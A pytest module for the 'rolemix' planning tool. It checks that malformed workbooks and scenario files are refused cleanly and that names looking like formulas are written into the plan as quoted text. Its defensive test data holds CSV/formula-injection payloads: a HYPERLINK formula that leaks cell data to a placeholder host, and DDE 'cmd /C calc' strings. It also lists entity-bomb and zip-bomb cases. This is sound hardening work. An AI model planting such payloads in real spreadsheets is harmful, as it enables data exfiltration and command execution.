"""The bad-input corpus: hundreds of broken copies of the shipped example workbook and scenario files.

Every bad workbook goes through ``rolemix validate`` in-process (and a
sample through ``rolemix solve --no-write --fractional --quiet``) and must
exit with code 1, print no traceback, start stderr with ``Error: ``, name
where the problem is (sheet, row and column for a cell; the sheet; or the
file) and what it is, and leave the file byte-identical.  Every bad scenario
file goes through :func:`rolemix.scenarios.load_scenario` under the same
rules.  The files are written once per module; ``corpus.plugin`` prints the
tally at the end of the run.

Names that look like formulas (= + - @) are not bad input: a workbook full of
them solves, and the plan workbook shows them as text.
"""

from __future__ import annotations

import hashlib
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from corpus import Base, Variant, workbook_variants
from corpus.scenario_variants import ScenarioVariant, scenario_variants
from corpus.variant import SHIPPED_EXAMPLE
from openpyxl import load_workbook

from rolemix.cli import main
from rolemix.errors import RolemixError
from rolemix.inputs import PlanInput
from rolemix.report.workbook import RESULT_SHEETS
from rolemix.scenarios import load_scenario
from rolemix.spec import SHEETS
from rolemix.workbook.reader import read_plan_input
from rolemix.workbook.template import write_input_workbook

pytest_plugins = ["corpus.plugin"]

BASE = Base.load()
VARIANTS = workbook_variants(BASE)
SCENARIOS = scenario_variants()

#: About twenty workbook variants, spread over every kind, also go through ``rolemix solve``.
SOLVE_SAMPLE = VARIANTS[:: max(len(VARIANTS) // 20, 1)]

#: The corpus must stay a corpus: the issue asks for at least 300 bad workbooks.
assert len(VARIANTS) >= 300, len(VARIANTS)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def corpus_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every workbook variant written once, by name."""
    folder = tmp_path_factory.mktemp("corpus")
    return {variant.name: variant.build(BASE, folder) for variant in VARIANTS}


def check_refusal(variant: Variant, result: Result, path: Path, before: str) -> None:
    """Exit code 1, no traceback, one ``Error:`` message naming where and what; the file unchanged."""
    assert type(result.exception) is SystemExit, f"{variant.name}: {result.exception!r}"
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert result.stdout == ""
    stderr = result.stderr
    assert stderr.startswith("Error: "), stderr
    if variant.level == "file":
        assert stderr.startswith("Error: " + variant.expected), stderr
        assert stderr.count("\n") == 1, stderr  # one sentence
    else:
        assert f"\n  {variant.expected}\n" in stderr, stderr
    for piece in variant.where:
        assert piece in stderr, piece
    assert sha256(path) == before


@pytest.mark.parametrize("variant", VARIANTS, ids=lambda variant: variant.name)
def test_bad_workbook_is_refused_by_validate(
    variant: Variant, corpus_files: dict[str, Path], record_property: Any
) -> None:
    record_property("corpus_family", variant.family)
    path = corpus_files[variant.name]
    before = sha256(path)
    result = CliRunner().invoke(main, ["validate", str(path)])
    check_refusal(variant, result, path, before)


@pytest.mark.parametrize("variant", SOLVE_SAMPLE, ids=lambda variant: variant.name)
def test_bad_workbook_is_refused_by_solve(
    variant: Variant, corpus_files: dict[str, Path], record_property: Any
) -> None:
    record_property("corpus_family", "solve: sample of the workbook variants")
    path = corpus_files[variant.name]
    before = sha256(path)
    result = CliRunner().invoke(main, ["solve", str(path), "--no-write", "--fractional", "--quiet"])
    check_refusal(variant, result, path, before)


def test_the_corpus_covers_what_the_issue_lists() -> None:
    families = {variant.family for variant in VARIANTS}
    for family in ("cell: text", "cell: blank", "cell: negative", "cell: share-150", "cell: nan-number",
                   "cell: inf-number", "cell: nan-text", "cell: huge-1e308", "cell: headcount-1e20",
                   "cell: date-typed", "cell: div0-formula", "cell: uncomputed-formula", "cell: hyperlink-formula",
                   "cell: uncomputed-hyperlink", "cell: long-name", "cell: lookalike-letters", "cell: unknown-name",
                   "rule: duplicate key", "sheet: missing", "sheet: misnamed", "sheet: extra or reordered",
                   "column: missing", "column: renamed", "column: extra", "column: reordered or retyped",
                   "column: merged cells", "workbook: empty", "file: truncated zip", "file: not a workbook",
                   "file: encrypted workbook", "file: XML entity bomb", "file: zip bomb"):
        assert family in families, family
    assert {variant.level for variant in VARIANTS} == {"cell", "sheet", "file"}
    assert len(SOLVE_SAMPLE) >= 20


# --- scenario files ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def example_input() -> PlanInput:
    return read_plan_input(SHIPPED_EXAMPLE)


@pytest.fixture(scope="module")
def scenario_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("scenarios")
    return {variant.name: variant.build(folder) for variant in SCENARIOS}


@pytest.mark.parametrize("variant", SCENARIOS, ids=lambda variant: variant.name)
def test_bad_scenario_file_is_refused(
    variant: ScenarioVariant,
    example_input: PlanInput,
    scenario_files: dict[str, Path],
    record_property: Any,
    request: pytest.FixtureRequest,
) -> None:
    record_property("corpus_family", variant.family)
    if variant.known_failure:
        request.applymarker(pytest.mark.xfail(reason=f"scenario loader: {variant.known_failure}", strict=False))
    path = scenario_files[variant.name]
    before = sha256(path)
    try:
        with pytest.raises(RolemixError) as raised:
            load_scenario(path, example_input)
    finally:
        assert sha256(path) == before
    assert raised.value.exit_code == 1
    text = str(raised.value)
    assert "Traceback" not in text
    for piece in variant.where:
        assert piece in text, (piece, text)


@pytest.mark.parametrize("name", ["layoff-text.yaml", "dip-unknown-adopter.yaml", "syntax-anchors.yaml",
                                  "json-nan.json", "bytes-utf16.yaml"])
def test_bad_scenario_file_through_the_command_line(
    name: str, scenario_files: dict[str, Path], tmp_path: Path, record_property: Any
) -> None:
    record_property("corpus_family", "scenario: through the command line")
    workbook = tmp_path / "example.xlsx"
    workbook.write_bytes(SHIPPED_EXAMPLE.read_bytes())
    path = scenario_files[name]
    before = sha256(path)
    result = CliRunner().invoke(
        main, ["frontier", str(workbook), "--scenario", str(path), "--fractional", "--quiet", "--points", "0"]
    )
    assert type(result.exception) is SystemExit, repr(result.exception)
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert result.stderr.startswith("Error: ")
    assert str(path) in result.stderr
    assert sha256(path) == before
    assert not (tmp_path / "example-frontier.xlsx").exists()


# --- names that look like formulas solve, and stay text in the plan ------------------------------

#: What each kind of name is called in the spec: its own key column, and the columns that refer to it.
NAME_COLUMNS: dict[str, list[tuple[str, str]]] = {
    "role": [("Roles", "Role")],
    "unit": [("Units", "Unit")],
    "segment": [("Units", "Segment")],
    "region": [("Units", "Region")],
    "work type": [("WorkTypes", "Work type")],
    "source": [("Capacity", "Source")],
    "copilot": [("Copilots", "Copilot")],
    "path": [("ReskillPaths", "Path")],
}
_REFERENCE_OF = {"role": "Roles", "unit": "Units", "segment": "Segments", "work type": "WorkTypes",
                 "source": "Capacity", "path": "ReskillPaths"}
for _kind, _ref in _REFERENCE_OF.items():
    NAME_COLUMNS[_kind] += [(spec.name, f.label) for spec in SHEETS for f in spec.fields if f.ref == _ref]
for _kind in ("source", "copilot"):
    NAME_COLUMNS[_kind].append(("Adoption", "Name"))

#: Names a spreadsheet would run as formulas if they were stored as typed, and names in other scripts.
FORMULA_LIKE_NAMES: dict[tuple[str, str], str] = {
    ("role", "Account executive"): '=HYPERLINK("http://example.invalid/?leak="&A1,"Account executive")',
    ("role", "Solution engineer"): "+Solution engineer",
    ("role", "Inside sales rep"): "-2+3 Inside sales",
    ("unit", "Americas Enterprise"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("unit", "EMEA SMB"): "=EMEA SMB",
    ("segment", "SMB"): "-SMB",
    ("region", "APAC"): "+APAC",
    ("work type", "technical"): "=1+1 technical",
    ("source", "Northwind AI sales agent"): "@AI agent",
    ("copilot", "Sales copilot"): "=Sales copilot",
    ("path", "AE to solution engineer"): "-AE to SE",
    ("unit", "EMEA Enterprise"): "Zürich – 顧客担当 Ελλάδα",
}
FORMULA_PLAN_NAME = "=cmd|' /C calc'!A0"
FORMULA_TRIGGERS = ("=", "+", "-", "@")


def rename(rows: dict[str, Any], kind: str, old: str, new: str) -> None:
    """Rename ``old`` to ``new`` wherever a name of ``kind`` appears."""
    found = False
    for sheet, label in NAME_COLUMNS[kind]:
        for record in rows.get(sheet) or []:
            if record.get(label) == old:
                record[label] = new
                found = True
    assert found, (kind, old)


@pytest.fixture(scope="module")
def formula_named_plan(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Result]:
    folder = tmp_path_factory.mktemp("formula-names")
    rows = BASE.fresh_rows()
    for (kind, old), new in FORMULA_LIKE_NAMES.items():
        rename(rows, kind, old, new)
    rows["Settings"]["Plan name"] = FORMULA_PLAN_NAME
    workbook = folder / "formula-names.xlsx"
    write_input_workbook(workbook, rows)
    plan = folder / "plan.xlsx"
    result = CliRunner().invoke(main, ["solve", str(workbook), "--out", str(plan), "--fractional", "--quiet",
                                       "--into-copy"])
    return workbook, plan, result


def test_names_that_look_like_formulas_solve(formula_named_plan: tuple[Path, Path, Result]) -> None:
    _workbook, plan, result = formula_named_plan
    assert result.exit_code == 0, result.output
    assert plan.exists()


def test_no_sheet_of_the_plan_holds_a_formula(formula_named_plan: tuple[Path, Path, Result]) -> None:
    _workbook, plan, _result = formula_named_plan
    with zipfile.ZipFile(plan) as archive:
        parts = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        # The result sheets and the copied input sheets (the example has no formulas of its own).
        assert len(parts) == len(RESULT_SHEETS) + len(SHEETS) + 2  # + Instructions and the hidden Lists
        for part in parts:
            xml = archive.read(part)
            assert b"<f>" not in xml and b"<f " not in xml, part


def test_formula_like_names_are_shown_as_quoted_text(formula_named_plan: tuple[Path, Path, Result]) -> None:
    _workbook, plan, _result = formula_named_plan
    workbook = load_workbook(plan)
    seen: set[str] = set()
    try:
        for sheet in RESULT_SHEETS:
            for row in workbook[sheet].iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.data_type == "s", (sheet, cell.coordinate, cell.value)
                        assert cell.quotePrefix, (sheet, cell.coordinate, cell.value)
                        seen.add(cell.value)
    finally:
        workbook.close()
    wanted = {name for name in FORMULA_LIKE_NAMES.values() if name.startswith(FORMULA_TRIGGERS)}
    assert wanted | {FORMULA_PLAN_NAME} <= seen, wanted - seen
